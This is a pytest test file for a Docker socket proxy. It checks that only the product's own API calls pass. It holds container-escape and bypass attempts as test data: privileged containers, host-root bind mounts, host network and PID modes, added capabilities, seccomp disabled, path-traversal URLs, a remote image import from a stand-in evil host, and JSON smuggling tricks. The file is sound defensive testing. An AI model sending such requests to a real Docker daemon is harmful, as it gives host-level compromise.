"""The proxy before Docker's socket: what Quazzar asks passes, and nothing else does."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import docker
import pytest

from mailboxes.engine import bodies
from mailboxes.engine.client import Engine
from mailboxes.engine.values import PutFile
from quazzar.errors import ImageUnavailable
from tests.mailboxes.engine.worlds import RealWorld
from tests.rig import or_skip
from tests.rig.socketproxy import SocketProxy, allowed

if TYPE_CHECKING:
    from tests.rig.images import Images

pytestmark = [pytest.mark.real, pytest.mark.slow]


@pytest.fixture
def proxy(tmp_path: Path, docker_socket: str, stack_project: str) -> Iterator[SocketProxy]:
    with or_skip(lambda: SocketProxy(tmp_path, stack_project, docker_socket)) as proxy:
        yield proxy


@pytest.fixture
def world(
    proxy: SocketProxy,
    docker_client: docker.DockerClient,
    stack_images: Images,
    stack_project: str,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[RealWorld]:
    """The Engine behind the proxy; the tests' own client goes around it."""
    monkeypatch.setenv("DOCKER_HOST", proxy.url)
    with Engine() as engine:
        yield RealWorld(engine, stack_project, stack_images.dovecot, docker_client)


@pytest.fixture
def stranger(proxy: SocketProxy) -> Iterator[docker.APIClient]:
    """Somebody who has the proxy's socket, and wants more."""
    client = docker.APIClient(base_url=proxy.url, version="1.41", timeout=30)
    yield client
    client.close()


def test_all_that_the_product_asks_passes_and_each_rule_is_for_something(
    world: RealWorld, proxy: SocketProxy
) -> None:
    engine, name = world.engine, world.base.name
    engine.info()
    assert engine.image_id(world.base.image)
    assert not engine.pullable("quazzar.invalid/none:1")
    with pytest.raises(ImageUnavailable):
        engine.pull("quazzar.invalid/none:1", lambda percent, sentence: None)
    assert world.running() == name
    assert engine.containers(world.project)["postfix"].status == "running"
    engine.put(name, [PutFile("/data/a", b"hello")])
    assert engine.run(name, ["cat", "/data/a"]).stdout == b"hello"
    assert engine.run(name, ["head", "-c", "300000"], stdin=b"x" * 300_000).stdout == b"x" * 300_000
    assert engine.run(name, ["sh", "-c", "exit 7"]).exit_code == 7
    with engine.paused(name):
        tar = b"".join(engine.read_folder(name, "/data"))
    engine.write_folder(name, "/", iter([tar]))
    engine.logs(name, 5)
    engine.follow(name, 0).close()
    assert engine.publisher(world.base.ports[0].host) == name
    engine.restart(name, 0)
    engine.stop(name, 0)
    engine.remove(name)
    assert engine.volumes(world.project) == {world.volume}
    engine.remove_volume(world.volume)
    engine.remove_network(world.project)
    assert engine.network(world.project) is None
    calls = proxy.calls()
    assert [call for call in calls if call[0] == 403] == []
    rules = allowed(world.project)
    assert len(rules) > 25
    unused = [
        (method, path.pattern)
        for method, path in rules
        if not any(method == used and path.match(asked.partition("?")[0]) for _, used, asked in calls)
    ]
    assert unused == []


def body_of(world: RealWorld, **host: Any) -> dict[str, Any]:
    """What the product sends to create a container, with changes to its HostConfig."""
    body = bodies.container(world.base)
    body["HostConfig"] |= host
    return body


def test_everything_else_is_refused(world: RealWorld, stranger: docker.APIClient, stack_project: str) -> None:
    v = "/v1.41"
    calls = {
        f"GET {v}/events", f"GET {v}/system/df", f"POST {v}/build", f"POST {v}/build/prune", f"POST {v}/images/load",
        f"POST {v}/images/create?fromSrc=http://evil.example/x.tar", f"POST {v}/images/create",
        f"DELETE {v}/images/debian", f"POST {v}/images/x/push", f"GET {v}/images/get", f"GET {v}/images/json",
        f"POST {v}/swarm/init", f"GET {v}/swarm", f"GET {v}/secrets", f"POST {v}/plugins/pull?remote=x",
        f"POST {v}/auth", f"POST {v}/session", f"POST {v}/grpc", f"POST {v}/commit?container={stack_project}-postfix",
        f"POST {v}/containers/prune", f"POST {v}/volumes/prune", f"POST {v}/networks/prune",
        f"POST {v}/networks/{stack_project}/connect", f"POST {v}/containers/{stack_project}-postfix/attach",
        f"POST {v}/containers/{stack_project}-postfix/update", f"POST {v}/containers/{stack_project}-postfix/rename",
        f"GET {v}/containers/{stack_project}-postfix/export", f"GET {v}/containers/somebody-else/json",
        f"POST {v}/containers/somebody-else/exec", f"POST {v}/containers/somebody-else/start",
        f"GET {v}/containers/somebody-else/archive?path=/etc", f"DELETE {v}/containers/somebody-else",
        f"GET {v}/volumes/somebody-else", f"DELETE {v}/volumes/somebody-else", f"DELETE {v}/networks/bridge",
        f"POST {v}/exec/{stack_project}/start", f"GET {v}/containers/{stack_project}-postfix/../somebody-else/json",
        f"GET {v}/containers/{stack_project}-postfix%2f..%2fsomebody-else/json", f"GET {v}//containers/json",
        f"POST /v1.23/containers/{stack_project}-postfix/start", f"POST /containers/create?name={stack_project}-x",
        f"POST {v}/containers/create?name=somebody-else", f"POST {v}/containers/create", "GET /_ping", "GET /metrics",
    }  # fmt: skip
    for call in sorted(calls):
        method, _, path = call.partition(" ")
        told = stranger.request(
            method, f"{stranger.base_url}{path}", data="{}", headers={"Content-Type": "application/json"}
        )
        assert told.status_code == 403, (call, told.status_code, told.text[:200])


def test_a_container_with_more_rights_than_ours_is_refused(
    world: RealWorld, stranger: docker.APIClient, docker_client: docker.DockerClient
) -> None:
    world.engine.ensure_network(world.project, world.labels)
    name = f"{world.project}-evil"
    url = f"{stranger.base_url}/v1.41/containers/create?name={name}"
    mount = {"Type": "bind", "Source": "/", "Target": "/host"}
    local = {"Name": "local", "Options": {"type": "none", "o": "bind", "device": "/"}}
    wanted: dict[str, dict[str, Any]] = {
        "privileged": {"Privileged": True},
        "a folder of the host": {"Binds": ["/:/host"]},
        "in lower case": {"binds": ["/:/host"]},
        "a bind mount": {"Mounts": [mount]},
        "a volume that is a folder": {"Mounts": [{**mount, "Type": "volume", "Source": f"{world.project}-x",
                                                  "VolumeOptions": {"DriverConfig": local}}]},
        "another's volume": {"Mounts": [{"Type": "volume", "Source": "somebody-else", "Target": "/x"}]},
        "another's volumes": {"VolumesFrom": ["somebody-else"]},
        "the host's network": {"NetworkMode": "host"},
        "another's network": {"NetworkMode": "container:somebody-else"},
        "the host's processes": {"PidMode": "host"},
        "a device": {"Devices": [{"PathOnHost": "/dev/sda", "PathInContainer": "/dev/sda"}]},
        "a capability": {"CapAdd": ["CHOWN", "SYS_ADMIN"]},
        "all capabilities": {"CapAdd": ["ALL"]},
        "no seccomp": {"SecurityOpt": ["no-new-privileges:true", "seccomp=unconfined"]},
        "a kernel setting": {"Sysctls": {"net.ipv4.ip_forward": "1"}},
    }  # fmt: skip
    for why, host in wanted.items():
        told = stranger.post(url, json=body_of(world, **host))
        assert told.status_code == 403, (why, told.status_code, told.text[:300])
    raw = json.dumps(body_of(world))
    privileged = '"HostConfig": {"Privileged": true'
    for why, body in {
        "an escape in a key": json.dumps(body_of(world, Privileged=True)).replace("Privi", "Priv\\u0069"),
        "a key twice": raw.replace('"HostConfig": {', f'{privileged}}}, "HostConfig": {{'),
        "too large to check": raw + " " * 140_000,
        "no JSON": raw + "}",
    }.items():
        told = stranger.post(url, data=body, headers={"Content-Type": "application/json"})
        assert told.status_code == 403, (why, told.status_code, told.text[:300])
    chunked = stranger.post(url, data=iter([json.dumps(body_of(world, Privileged=True)).encode()]))
    assert chunked.status_code == 403
    assert not docker_client.containers.list(all=True, filters={"name": name})
    ours = stranger.post(url, json=body_of(world))
    assert ours.status_code == 201, ours.text
    world.engine.remove(name)


def test_a_volume_or_network_that_is_more_than_ours_is_refused(
    world: RealWorld, stranger: docker.APIClient
) -> None:
    options = {"type": "none", "o": "bind", "device": "/"}
    name = f"{world.project}-x"
    for path, body in (
        ("volumes", {"Name": name, "Driver": "local", "DriverOpts": options}),
        ("volumes", {"Name": name, "driveropts": options}),
        ("volumes", {"Name": name, "Driver": "sshfs"}),
        ("volumes", {"Name": "somebody-else"}),
        ("networks", {"Name": name, "Driver": "macvlan", "Options": {"parent": "eth0"}}),
        ("networks", {"Name": "somebody-else", "Driver": "bridge"}),
    ):
        told = stranger.post(f"{stranger.base_url}/v1.41/{path}/create", json=body)
        assert told.status_code == 403, (path, body, told.text[:300])
    running = world.running()
    told = stranger.post(
        f"{stranger.base_url}/v1.41/containers/{running}/exec", json={"Cmd": ["id"], "Privileged": True}
    )
    assert told.status_code == 403
